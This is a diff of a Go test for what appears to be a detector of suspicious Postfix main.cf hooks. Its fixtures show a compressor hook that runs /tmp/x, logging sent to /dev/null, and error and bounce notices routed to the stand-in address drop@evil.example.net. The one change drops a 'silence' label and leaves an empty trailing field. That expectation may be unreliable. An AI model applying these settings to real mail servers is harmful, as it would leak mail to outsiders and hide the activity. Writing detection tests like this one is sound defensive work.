@@ -132,7 +132,7 @@ func TestHookFamilies(t *testing.T) {
 			"/etc/postfix/main.cf:maillog_file_compressor:1 | script | command /tmp/x | execute"}},
 		{"log", "maillog_file = /dev/null\nsyslog_name = postfix-x\n", nil, []string{
 			"/etc/postfix/main.cf:maillog_file:1 | log | file /dev/null | silence",
-			"/etc/postfix/main.cf:syslog_name:1 | log | text postfix-x | silence"}},
+			"/etc/postfix/main.cf:syslog_name:1 | log | text postfix-x | "}},
 		{"notices", "error_notice_recipient = drop@evil.example.net\nbounce_notice_recipient = drop@evil.example.net\n", nil, []string{
 			"/etc/postfix/main.cf:error_notice_recipient:1 | copy | address drop@evil.example.net | copy | remote",
 			"/etc/postfix/main.cf:bounce_notice_recipient:1 | copy | address drop@evil.example.net | copy | remote | inactive"}},
